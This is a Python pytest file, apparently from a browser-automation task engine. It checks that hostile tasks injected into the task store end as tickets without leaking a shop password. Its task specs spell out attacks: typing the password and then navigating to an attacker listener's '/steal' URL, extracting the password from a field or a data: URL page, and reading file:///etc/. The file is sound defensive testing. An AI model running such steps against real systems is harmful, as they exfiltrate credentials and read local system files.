"""Hostile tasks that got past submission (written straight into the store, as anyone who can
write to a fleet's Redis could) run by the real engine, browser executor and Chromium against
the demo site: each ends as a ticket after one attempt, with evidence, and the attacker's
listener, the database file, the evidence and the logs never see the password."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from core import DemoSite, Settings, build_engine, demo_settings, open_store
from core.demo import register_demo_shops
from core.secrets import encrypt_password
from core.specs import TaskSpec
from core.store import TaskState
from core.vault import Vault
from tests.helpers import run_with, wait_until
from tests.security.helpers import SECRET, Listener, files_leaking, leaks

pytestmark = [pytest.mark.slow, pytest.mark.browser]


@pytest.fixture(scope="module")
def site() -> Iterator[DemoSite]:
    with DemoSite() as s:
        yield s


@pytest.fixture(scope="module")
def attacker() -> Iterator[Listener]:
    listener = Listener({})
    listener.attacker = listener.url
    yield listener
    listener.close()


def inline(shop: str, *steps: dict[str, Any]) -> TaskSpec:
    return TaskSpec.model_validate({"type": "collect_data", "shop": shop, "steps": list(steps)})


@pytest.mark.parametrize("inline_credentials", [False, True])
def test_hostile_inline_tasks_end_as_tickets_and_leak_nothing(
        inline_credentials: bool, site: DemoSite, attacker: Listener, tmp_path: Path,
        caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    site.reset()
    attacker.seen.clear()
    settings = demo_settings(Settings()).with_changes(
        pool={"max_browsers": 1, "warm": 1, "step_timeout_s": 10},
        queue={"max_attempts": 3, "retry_backoff_s": 0.1, "retry_backoff_max_s": 0.2},
        security={"inline_credentials": inline_credentials})
    db = tmp_path / "e.db"
    store = open_store(settings, db, validate=False)  # as if written straight into the store
    vault = Vault.open(tmp_path)
    register_demo_shops(store, site, vault)
    store.update_shop("pdd-1", password_enc=encrypt_password(SECRET, vault=vault))
    base = store.shop("pdd-1").base_url
    login = {"action": "navigate", "url": base + "/login"}
    pw = {"action": "type_text", "locator": "#password", "text": "{shop.password}"}
    ids = store.submit_many([
        inline("pdd-1", login, pw, {"action": "navigate", "url": attacker.url + "/steal"}),
        inline("pdd-1", login, {"action": "type_text", "locator": "#username",
                                "text": "{shop.password}"},
               {"action": "extract", "locator": "#username", "attribute": "value",
                "into": "x"}),
        inline("pdd-1", {"action": "navigate", "url": "data:text/html,<div id=q "
                         "contenteditable></div>"},
               {"action": "type_text", "locator": "#q", "text": "{shop.password}"},
               {"action": "extract", "locator": "#q", "into": "x"}),
        inline("pdd-1", {"action": "navigate", "url": "file:///etc/"},
               {"action": "extract", "locator": "body", "into": "x"}),
        inline("pdd-1", login, {"action": "screenshot", "into": "shot"}),
    ])
    engine = build_engine(settings, store, home=tmp_path)

    async def scenario() -> None:
        await wait_until(lambda: all(store.task(t).state in (TaskState.WAITING_HUMAN,
                                                             TaskState.DONE) for t in ids))

    run_with(engine, scenario)
    tasks = [store.task(t) for t in ids]
    expected = (["credential_blocked", "credential_blocked", "credential_blocked",
                 "origin_blocked"] if not inline_credentials
                else ["origin_blocked", "credential_blocked", "origin_blocked",
                      "origin_blocked"])
    assert [t.error_class for t in tasks[:4]] == expected
    assert all(t.state is TaskState.WAITING_HUMAN and t.attempts == 1 for t in tasks[:4])
    tickets = {tk.task_id: tk for tk in engine.tickets.tickets()}
    assert set(tickets) >= set(ids[:4])
    if inline_credentials:
        # Stopped in the browser: the ticket carries evidence; the screenshot task ran.
        assert Path(tickets[ids[0]].evidence["screenshot"]).exists()
        assert tasks[4].state is TaskState.DONE
    assert [r for r in attacker.seen if "/steal" in r] == []
    assert not any(leaks(r) for r in attacker.seen)
    store.close()
    for p in tmp_path.rglob("*"):
        if p.is_file() and p.name != "vault.key":
            assert not leaks(p.read_bytes()), p
    assert files_leaking(tmp_path / "evidence") == [] if (tmp_path / "evidence").exists() \
        else True
    assert not leaks(caplog.text)
    assert not any(leaks(repr(t)) for t in tasks)
